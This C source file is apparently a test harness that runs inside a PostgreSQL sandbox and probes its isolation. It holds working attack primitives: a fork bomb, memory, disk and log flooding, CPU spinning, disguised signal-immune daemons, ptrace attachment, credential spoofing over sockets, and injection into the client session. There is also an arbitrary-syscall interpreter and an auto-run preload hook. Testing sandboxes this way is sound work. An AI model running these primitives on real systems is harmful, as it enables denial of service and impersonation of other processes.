/*
 * What a hostile superuser of PostgreSQL runs inside of a compute, as a C function (`attack(text) RETURNS text`), as a library that the
 * postmaster preloads, or, for the positive controls, as a program on the host. The text is a small script; each line is one step:
 *
 *     call NUMBER ARGUMENT...   a raw system call; gives "RESULT ERRNO" and the content of its buffers in hexadecimal
 *                               arguments: i:NUMBER  s:TEXT  h:HEX (bytes)  b:SIZE (a buffer)  r:STEP (the result of an earlier step)
 *     fork / end                the steps between run in a child; gives "exit N" or "signal N", after what they gave
 *     NAME ARGUMENT...          one of the steps below, which need more than one system call
 *
 * Steps are separated by newlines, words by tabs. The answer has one line for each step. No PostgreSQL header is needed: the calling
 * convention is the same since PostgreSQL 12, and what is declared here is all of it.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define MAX_STEPS 256
#define MAX_WORDS 16
#define OUTPUT (1 << 20)

static char output[OUTPUT];
static size_t written;
static long results[MAX_STEPS];

static void say(const char *format, ...)
{
    va_list arguments;
    int n;

    va_start(arguments, format);
    n = vsnprintf(output + written, OUTPUT - written, format, arguments);
    va_end(arguments);
    if (n > 0)
        written = written + (size_t)n < OUTPUT ? written + (size_t)n : OUTPUT - 1;
}

static long number(char **words, int position, long otherwise)
{
    return words[position] ? strtol(words[position], NULL, 0) : otherwise;
}

static size_t unhex(const char *text, unsigned char *into)
{
    size_t n = 0;
    unsigned value;

    for (; sscanf(text, "%2x", &value) == 1; text += 2)
        into[n++] = (unsigned char)value;
    return n;
}

/* call NUMBER ARGUMENT... */
static long call(char **words)
{
    long arguments[6] = {0, 0, 0, 0, 0, 0}, result;
    void *buffers[6] = {NULL}, *given[6] = {NULL};
    size_t sizes[6] = {0};
    int code, i;

    for (i = 0; i < 6 && words[i + 2]; i++) {
        char *word = words[i + 2], *value = word + 2;

        switch (word[0]) {
        case 'i':
            arguments[i] = (long)strtoull(value, NULL, 0);
            break;
        case 's':
            arguments[i] = (long)value;
            break;
        case 'h':
            given[i] = calloc(1, strlen(value) / 2 + 8);
            unhex(value, given[i]);
            arguments[i] = (long)given[i];
            break;
        case 'b':
            sizes[i] = strtoul(value, NULL, 0);
            buffers[i] = calloc(1, sizes[i]);
            arguments[i] = (long)buffers[i];
            break;
        case 'r':
            arguments[i] = results[atoi(value)];
            break;
        }
    }
    errno = 0;
    result = syscall(number(words, 1, -1), arguments[0], arguments[1], arguments[2], arguments[3], arguments[4], arguments[5]);
    code = errno;
    say("%ld %d", result, code);
    for (i = 0; i < 6; i++) {
        if (buffers[i] && result >= 0) {
            size_t k, shown = sizes[i] < 512 ? sizes[i] : 512;

            say(" ");
            for (k = 0; k < shown; k++)
                say("%02x", ((unsigned char *)buffers[i])[k]);
        }
        free(buffers[i]);
        free(given[i]);
    }
    return result;
}

/* descriptors: every open one, with what it is. */
static long descriptors(char **words)
{
    int fd, count = 0, last = (int)number(words, 1, 4096);

    for (fd = 0; fd < last; fd++) {
        struct stat status;
        int flags = fcntl(fd, F_GETFL), kind = 0, family = -1, listens = 0;
        socklen_t length = sizeof kind;
        const char *what = "other";
        char bytes[128] = "";

        if (flags < 0 || fstat(fd, &status) < 0)
            continue;
        if (S_ISREG(status.st_mode))
            what = "file";
        else if (S_ISDIR(status.st_mode))
            what = "directory";
        else if (S_ISFIFO(status.st_mode))
            what = "pipe";
        else if (S_ISCHR(status.st_mode))
            what = "device";
        else if (S_ISSOCK(status.st_mode)) {
            struct sockaddr_un address;

            what = "socket";
            getsockopt(fd, SOL_SOCKET, SO_TYPE, &kind, &length);
            length = sizeof family;
            getsockopt(fd, SOL_SOCKET, SO_DOMAIN, &family, &length);
            length = sizeof listens;
            getsockopt(fd, SOL_SOCKET, SO_ACCEPTCONN, &listens, &length);
            length = sizeof address;
            memset(&address, 0, sizeof address);
            if (family == AF_UNIX && getsockname(fd, (struct sockaddr *)&address, &length) == 0)
                snprintf(bytes, sizeof bytes, "%s", address.sun_path);
        }
        say("%s%d %s flags=%o dev=%lx ino=%lu family=%d listens=%d path=%s", count++ ? ";" : "", fd, what, flags, (long)status.st_dev,
            (long)status.st_ino, family, listens, bytes[0] ? bytes : "-");
    }
    return count;
}

/* processes: which process ids can be signalled at all (signal 0), up to the highest that a kernel gives. */
static long processes(char **words)
{
    long pid, last = number(words, 1, 4194304), count = 0;

    for (pid = 1; pid <= last; pid++)
        if (kill((pid_t)pid, 0) == 0 || errno == EPERM)
            say("%s%ld%s", count++ ? " " : "", pid, errno == EPERM ? "(EPERM)" : "");
    return count;
}

/* Makes the calling process a daemon; returns in it only. */
static int daemonise(void)
{
    pid_t pid = fork();

    if (pid != 0) {
        if (pid > 0)
            waitpid(pid, NULL, 0);
        return 0;
    }
    setsid();
    if (fork() != 0)
        _exit(0);
    return 1;
}

static int life_line(void)
{
    int fd, found = -1;

    for (fd = 3; fd < 1024; fd++) {
        struct stat status;
        int flags = fcntl(fd, F_GETFL);

        /* Torpor made it without blocking, PostgreSQL's own pipes are not for writing or close each other. */
        if (flags >= 0 && (flags & O_ACCMODE) == O_WRONLY && fstat(fd, &status) == 0 && S_ISFIFO(status.st_mode) && (flags & O_NONBLOCK))
            found = fd;
    }
    return found;
}

/* daemon SECONDS KEEP: a process that outlives the backend, deaf to signals; KEEP: with all descriptors. */
static long start_daemon(char **words)
{
    long seconds = number(words, 1, 60), keep = number(words, 2, 0), i;

    if (daemonise()) {
        for (i = 1; i < 65; i++)
            if (i != SIGKILL && i != SIGSTOP)
                signal((int)i, SIG_IGN);
        prctl(PR_SET_NAME, "postgres: torpor", 0, 0, 0);
        if (!keep)
            close_range(0, ~0U, 0);
        for (i = 0; i < seconds * 10; i++)
            poll(NULL, 0, 100);
        _exit(0);
    }
    say("started");
    return 0;
}

/* lifeline HEX TIMES: write to the life line. lifeline close: close it. lifeline flood SECONDS: a process that fills it again and again. */
static long touch_life_line(char **words)
{
    unsigned char bytes[65536];
    int fd = life_line();
    size_t length;
    long i, times = number(words, 2, 1), sum = 0;

    if (fd < 0) {
        say("none");
        return -1;
    }
    if (strcmp(words[1], "close") == 0) {
        close(fd);
    } else if (strcmp(words[1], "flood") == 0) {
        if (daemonise()) {
            long rounds;

            memset(bytes, 'x', sizeof bytes);
            for (rounds = 0; rounds < times * 20000; rounds++) {
                struct pollfd wait = {fd, POLLOUT, 0};

                if (write(fd, bytes, sizeof bytes) < 0 && errno != EAGAIN)
                    break;
                poll(&wait, 1, 100);
            }
            _exit(0);
        }
    } else {
        length = unhex(words[1], bytes);
        for (i = 0; i < times; i++) {
            ssize_t n = write(fd, bytes, length);
            sum += n > 0 ? n : 0;
        }
    }
    say("fd=%d wrote=%ld", fd, sum);
    return sum;
}

/* bomb COUNT SECONDS: as many processes as there may be, each asleep; how many there were. */
static long fork_bomb(char **words)
{
    long most = number(words, 1, 100000), seconds = number(words, 2, 1), count = 0;
    int failure = 0;
    pid_t group = fork();

    if (group == 0) {
        int report = open(words[3] ? words[3] : "/data/bomb", O_WRONLY | O_CREAT | O_TRUNC, 0600);

        setsid();
        for (; count < most; count++) {
            pid_t pid = fork();

            if (pid == 0) {
                poll(NULL, 0, (int)seconds * 1000);
                _exit(0);
            }
            if (pid < 0) {
                failure = errno;
                break;
            }
        }
        dprintf(report, "%ld %d\n", count, failure);
        kill(0, SIGKILL);
        _exit(0);
    }
    if (group > 0) {
        FILE *file;

        waitpid(group, NULL, 0);
        file = fopen(words[3] ? words[3] : "/data/bomb", "r");
        if (file && fscanf(file, "%ld %d", &count, &failure) == 2)
            say("%ld processes, errno %d", count, failure);
        if (file)
            fclose(file);
    }
    return count;
}

/* memory MEGABYTES: touch that much in a child; "exit" or "signal" says how it ended. */
static long fill_memory(char **words)
{
    long megabytes = number(words, 1, 1), i;
    int status = 0;
    pid_t pid = fork();

    if (pid == 0) {
        for (i = 0; i < megabytes; i++) {
            char *chunk = mmap(NULL, 1 << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

            if (chunk == MAP_FAILED)
                _exit(3);
            memset(chunk, 0x5a, 1 << 20);
        }
        _exit(0);
    }
    waitpid(pid, &status, 0);
    say(WIFSIGNALED(status) ? "signal %d" : "exit %d", WIFSIGNALED(status) ? WTERMSIG(status) : WEXITSTATUS(status));
    return 0;
}

/* fill PATH MEGABYTES: write that much into a file; how many megabytes there was room for. */
static long fill_file(char **words)
{
    static char block[1 << 20];
    long megabytes = number(words, 2, 1), i;
    int fd = open(words[1], O_WRONLY | O_CREAT | O_TRUNC, 0600), failure = 0;

    if (fd < 0) {
        say("-1 megabytes, errno %d", errno);
        return -1;
    }
    memset(block, 0x5a, sizeof block);
    for (i = 0; i < megabytes; i++)
        if (write(fd, block, sizeof block) != (ssize_t)sizeof block) {
            failure = errno;
            break;
        }
    close(fd);
    unlink(words[1]);
    say("%ld megabytes, errno %d", i, failure);
    return i;
}

/* files DIRECTORY COUNT: make that many empty files; how many there was room for. They are removed again with "files DIRECTORY -COUNT". */
static long make_files(char **words)
{
    long most = number(words, 2, 1), i;
    char path[4096];
    int failure = 0;

    mkdir(words[1], 0700);
    for (i = 0; i < labs(most); i++) {
        int fd;

        snprintf(path, sizeof path, "%s/%ld", words[1], i);
        if (most < 0) {
            unlink(path);
            continue;
        }
        fd = open(path, O_WRONLY | O_CREAT, 0600);
        if (fd < 0) {
            failure = errno;
            break;
        }
        close(fd);
    }
    say("%ld files, errno %d", i, failure);
    return i;
}

/* deep DIRECTORY LEVELS: directories within directories, deeper than any path is long. */
static long dig(char **words)
{
    long levels = number(words, 2, 1), i;
    int here = open(words[1], O_RDONLY | O_DIRECTORY), next, failure = 0;

    for (i = 0; here >= 0 && i < levels; i++) {
        if (mkdirat(here, "d", 0700) < 0 || (next = openat(here, "d", O_RDONLY | O_DIRECTORY)) < 0) {
            failure = errno;
            break;
        }
        close(here);
        here = next;
    }
    close(here);
    say("%ld levels, errno %d", i, failure);
    return i;
}

/* open COUNT: as many descriptors as there may be; how many more there were. */
static long open_many(char **words)
{
    long most = number(words, 1, 100000), i;
    int *fds = calloc((size_t)most, sizeof *fds), failure = 0;

    for (i = 0; i < most; i++)
        if ((fds[i] = open("/dev/null", O_RDONLY)) < 0) {
            failure = errno;
            break;
        }
    say("%ld descriptors, errno %d", i, failure);
    for (most = i, i = 0; i < most; i++)
        close(fds[i]);
    free(fds);
    return most;
}

/* log MEGABYTES: write that much to standard error, as fast as it goes. */
static long flood_log(char **words)
{
    static char block[1 << 20];
    long megabytes = number(words, 1, 1), i, sum = 0;

    memset(block, 'x', sizeof block);
    block[sizeof block - 1] = '\n';
    for (i = 0; i < megabytes; i++) {
        ssize_t n = write(2, block, sizeof block);

        if (n > 0)
            sum += n;
    }
    say("wrote=%ld", sum);
    return sum;
}

/* trace: a child traces its parent, as a debugger does. */
static long trace(char **words)
{
    pid_t pid = fork();
    int status = 0;
    long result;

    (void)words;
    if (pid == 0) {
        poll(NULL, 0, 2000);
        _exit(0);
    }
    errno = 0;
    result = syscall(SYS_ptrace, PTRACE_ATTACH, pid, 0L, 0L);
    say("%ld %d", result, errno);
    if (result == 0) {
        waitpid(pid, &status, 0);
        syscall(SYS_ptrace, PTRACE_DETACH, pid, 0L, 0L);
    }
    kill(pid, SIGKILL);
    waitpid(pid, &status, 0);
    return 0;
}

/* old NUMBER: a 32-bit system call on a 64-bit machine, in a child. */
static long old_call(char **words)
{
    int status = 0;
    pid_t pid = fork();

    if (pid == 0) {
#ifdef __x86_64__
        long result;

        __asm__ volatile("int $0x80" : "=a"(result) : "a"(number(words, 1, 20)) : "memory");
        _exit(result > 0 ? 0 : 1);
#else
        _exit(1);
#endif
    }
    waitpid(pid, &status, 0);
    say(WIFSIGNALED(status) ? "signal %d" : "exit %d", WIFSIGNALED(status) ? WTERMSIG(status) : WEXITSTATUS(status));
    return 0;
}

/* The socket of the client that this backend serves; when it serves Torpor itself, one end of Torpor's own pair. */
static int client_socket(void)
{
    int fd, found = -1;

    for (fd = 3; fd < 64; fd++) {
        struct sockaddr_storage peer;
        socklen_t size = sizeof peer;

        if (getpeername(fd, (struct sockaddr *)&peer, &size) == 0)
            found = fd;
    }
    return found;
}

/* claim SOCKET PID: say "R" in the name of another process. */
static long claim(char **words)
{
    union {
        char bytes[CMSG_SPACE(sizeof(struct ucred))];
        struct cmsghdr align;
    } control;
    struct iovec part = {"R", 1};
    struct msghdr message = {.msg_iov = &part, .msg_iovlen = 1, .msg_control = control.bytes, .msg_controllen = sizeof control.bytes};
    struct ucred who = {(pid_t)number(words, 2, 1), getuid(), getgid()};
    struct cmsghdr *header;
    ssize_t sent;

    memset(&control, 0, sizeof control);
    header = CMSG_FIRSTHDR(&message);
    header->cmsg_level = SOL_SOCKET;
    header->cmsg_type = SCM_CREDENTIALS;
    header->cmsg_len = CMSG_LEN(sizeof who);
    memcpy(CMSG_DATA(header), &who, sizeof who);
    errno = 0;
    sent = sendmsg((int)number(words, 1, -1), &message, MSG_DONTWAIT | MSG_NOSIGNAL);
    say("%ld %d", (long)sent, errno);
    return sent;
}

/* rights SOCKET COUNT TIMES: send that many descriptors, so many times, to whoever is at the other end of a socket ("client": its own). */
static long send_rights(char **words)
{
    int fd = strcmp(words[1], "client") == 0 ? client_socket() : (int)number(words, 1, -1), i, count = (int)number(words, 2, 1);
    long times = number(words, 3, 1);
    union {
        char bytes[CMSG_SPACE(253 * sizeof(int))];
        struct cmsghdr align;
    } control;
    struct iovec part = {"x", 1};
    struct msghdr message = {.msg_iov = &part, .msg_iovlen = 1, .msg_control = control.bytes,
                             .msg_controllen = CMSG_SPACE((size_t)count * sizeof(int))};
    struct cmsghdr *header;
    ssize_t sent = 0;

    memset(&control, 0, sizeof control);
    header = CMSG_FIRSTHDR(&message);
    header->cmsg_level = SOL_SOCKET;
    header->cmsg_type = SCM_RIGHTS;
    header->cmsg_len = CMSG_LEN((size_t)count * sizeof(int));
    for (i = 0; i < count; i++)
        ((int *)CMSG_DATA(header))[i] = 2;
    errno = 0;
    for (; times > 0 && sent >= 0; times--)
        sent = sendmsg(fd, &message, MSG_DONTWAIT | MSG_NOSIGNAL);
    say("%ld %d", (long)sent, errno);
    return sent;
}

/* stuck SECONDS: a parent that waits for its vfork()ed child, which no signal but SIGKILL ends. */
static long stuck(char **words)
{
    long seconds = number(words, 1, 5);

    if (daemonise()) {
        close_range(0, ~0U, 0);
        if (vfork() == 0) {
            syscall(SYS_clock_nanosleep, 1, 0, &(struct timespec){seconds, 0}, NULL);
            _exit(0);
        }
        _exit(0);
    }
    say("started");
    return 0;
}

/* spin SECONDS THREADS: processes that use all of the processor. */
static long spin(char **words)
{
    long seconds = number(words, 1, 1), count = number(words, 2, 1), i;

    for (i = 0; i < count; i++)
        if (daemonise()) {
            struct timespec now, until;

            close_range(0, ~0U, 0);
            clock_gettime(CLOCK_MONOTONIC, &until);
            until.tv_sec += seconds;
            do
                clock_gettime(CLOCK_MONOTONIC, &now);
            while (now.tv_sec < until.tv_sec);
            _exit(0);
        }
    say("started");
    return 0;
}

/* speak HEX TIMES: say something to whoever is at the other end of this session, Torpor or a client, in PostgreSQL's place. */
static long speak(char **words)
{
    static unsigned char bytes[1 << 16], many[1 << 18];
    size_t length = unhex(words[1], bytes), filled = 0;
    long i, times = number(words, 2, 1), sum = 0;
    int found = client_socket();

    if (found < 0) {
        say("none");
        return -1;
    }
    fcntl(found, F_SETFL, fcntl(found, F_GETFL) & ~O_NONBLOCK);
    for (i = 0; i < times; i++) {
        memcpy(many + filled, bytes, length);
        filled += length;
        if (filled + length > sizeof many || i == times - 1) {
            size_t at;
            ssize_t n = 0;

            for (at = 0; at < filled && (n = send(found, many + at, filled - at, MSG_NOSIGNAL)) > 0; at += (size_t)n)
                sum += n;
            if (n <= 0)
                break;
            filled = 0;
        }
    }
    say("fd=%d wrote=%ld", found, sum);
    return sum;
}

/* directory PATH: the names in it. */
static long list_directory(char **words)
{
    DIR *directory = opendir(words[1]);
    struct dirent *entry;
    long count = 0;

    if (!directory) {
        say("-1 %d", errno);
        return -1;
    }
    while ((entry = readdir(directory)))
        if (strcmp(entry->d_name, ".") != 0 && strcmp(entry->d_name, "..") != 0)
            say("%s%s", count++ ? " " : "", entry->d_name);
    closedir(directory);
    return count;
}

/* signal NUMBER PID */
static long send_signal(char **words)
{
    int result;

    errno = 0;
    result = kill((pid_t)number(words, 2, 0), (int)number(words, 1, 0));
    say("%d %d", result, errno);
    return result;
}

static const struct {
    const char *name;
    long (*run)(char **);
} steps[] = {
    {"call", call}, {"descriptors", descriptors}, {"processes", processes}, {"daemon", start_daemon}, {"lifeline", touch_life_line},
    {"bomb", fork_bomb}, {"memory", fill_memory}, {"fill", fill_file}, {"files", make_files}, {"deep", dig}, {"open", open_many},
    {"log", flood_log}, {"trace", trace}, {"old", old_call}, {"claim", claim}, {"rights", send_rights}, {"stuck", stuck}, {"spin", spin},
    {"speak", speak}, {"directory", list_directory}, {"signal", send_signal},
};

static void step(char *line, int position)
{
    char *words[MAX_WORDS + 2] = {NULL}, *rest = line, *word;
    int count = 0;
    size_t i;

    while (count < MAX_WORDS && (word = strsep(&rest, "\t")))
        words[count++] = word;
    for (i = 0; i < sizeof steps / sizeof steps[0]; i++)
        if (strcmp(words[0], steps[i].name) == 0) {
            results[position] = steps[i].run(words);
            return;
        }
    say("unknown step");
}

static void run(char *script);

/* The steps up to `end` in a child, whose answer comes through a pipe. */
static char *run_forked(char *script)
{
    char *end = strstr(script, "\nend"), *rest = end ? end + 4 : script + strlen(script);
    int answer[2], status = 0;
    ssize_t n;
    pid_t pid;

    if (end)
        *end = 0;
    if (pipe(answer) < 0)
        return rest;
    pid = fork();
    if (pid == 0) {
        written = 0;
        run(script);
        for (size_t at = 0; at < written && (n = write(answer[1], output + at, written - at)) > 0;)
            at += (size_t)n;
        _exit(0);
    }
    close(answer[1]);
    while ((n = read(answer[0], output + written, OUTPUT - 1 - written)) > 0)
        written += (size_t)n;
    close(answer[0]);
    waitpid(pid, &status, 0);
    if (written && output[written - 1] != '\n')
        say("\n");
    say(WIFSIGNALED(status) ? "signal %d" : "exit %d", WIFSIGNALED(status) ? WTERMSIG(status) : WEXITSTATUS(status));
    return *rest == '\n' ? rest + 1 : rest;
}

static void run(char *script)
{
    int position = 0;

    while (script && *script) {
        if (strncmp(script, "fork\n", 5) == 0) {
            script = run_forked(script + 5);
        } else {
            char *line = strsep(&script, "\n");

            step(line, position);
        }
        if (position < MAX_STEPS - 1)
            position++;
        say("\n");
    }
}

#ifdef PROGRAM

int main(int count, char **arguments)
{
    static char script[1 << 16];

    if (count > 1) {
        snprintf(script, sizeof script, "%s", arguments[1]);
    } else if (read(0, script, sizeof script - 1) < 0) {
        return 1;
    }
    run(script);
    return fwrite(output, 1, written, stdout) == written ? 0 : 1;
}

#else

/* PostgreSQL's calling convention, version 1. */
typedef uintptr_t Datum;
struct call_info {
    void *function, *context, *result;
    uint32_t collation;
    unsigned char is_null;
    short count;
    struct {
        Datum value;
        unsigned char is_null;
    } arguments[1];
};
extern char *text_to_cstring(const void *);
extern void *cstring_to_text(const char *);

const void *Pg_magic_func(void);
const void *Pg_magic_func(void)
{
    static const struct {
        int length, version, arguments, keys, name, by_value;
        char extra[32];
#if MAJOR >= 18
        const char *module, *module_version;
#endif
    } magic = {.length = sizeof magic, .version = MAJOR * 100, .arguments = 100, .keys = 32, .name = 64, .by_value = 1,
               .extra = "PostgreSQL"};
    return &magic;
}

const void *pg_finfo_attack(void);
const void *pg_finfo_attack(void)
{
    static const struct {
        int version;
    } information = {1};
    return &information;
}

Datum attack(struct call_info *);
Datum attack(struct call_info *call_info)
{
    char *script = text_to_cstring((const void *)call_info->arguments[0].value);

    written = 0;
    output[0] = 0;
    run(script);
    return (Datum)cstring_to_text(output);
}

/* Preloaded by the postmaster: runs the script that lies ready for it. */
__attribute__((constructor)) static void preloaded(void)
{
    static char script[1 << 16];
    int fd = open("/data/preload.script", O_RDONLY);
    ssize_t n;

    if (fd < 0)
        return;
    n = read(fd, script, sizeof script - 1);
    close(fd);
    if (n <= 0)
        return;
    written = 0;
    run(script);
    fd = open("/data/preload.answer", O_WRONLY | O_CREAT | O_TRUNC, 0600);
    if (fd >= 0) {
        if (write(fd, output, written) < 0)
            errno = 0;
        close(fd);
    }
}

#endif
